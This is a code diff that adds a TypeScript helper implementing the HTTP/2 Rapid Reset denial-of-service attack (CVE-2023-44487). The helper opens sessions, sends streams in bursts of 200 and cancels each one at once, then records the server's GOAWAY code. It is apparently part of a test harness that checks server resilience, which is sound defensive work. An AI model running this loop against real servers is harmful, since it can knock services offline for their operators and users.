@@ -97,3 +97,34 @@ export function adminFrom(ip: string, from: string, path: string, method = 'GET'
     });
   });
 }
+
+/**
+ * Rapid reset (CVE-2023-44487): on fresh sessions, streams opened and reset in the same turn, in
+ * rounds of 200, until `max` resets or 20 s. Returns how many were sent and the first GOAWAY code.
+ */
+export async function rapidResets(open: () => http2.ClientHttp2Session, headers: http2.OutgoingHttpHeaders, body: Buffer, max: number): Promise<{ resets: number; goaway: number | undefined }> {
+  let resets = 0;
+  let goaway: number | undefined;
+  const deadline = Date.now() + 20_000;
+  while (resets < max && Date.now() < deadline) {
+    const s = open();
+    s.on('goaway', (code) => (goaway ??= code));
+    await new Promise<void>((resolve) => s.once('connect', () => resolve()));
+    for (let round = 0; round < 10 && !s.destroyed && !s.closed; round++) {
+      for (let i = 0; i < 200; i++) {
+        try {
+          const req = s.request(headers);
+          req.on('error', () => {});
+          req.write(body);
+          req.close(http2.constants.NGHTTP2_CANCEL);
+          resets++;
+        } catch {
+          break;
+        }
+      }
+      await new Promise((r) => setTimeout(r, 5));
+    }
+    s.destroy();
+  }
+  return { resets, goaway };
+}
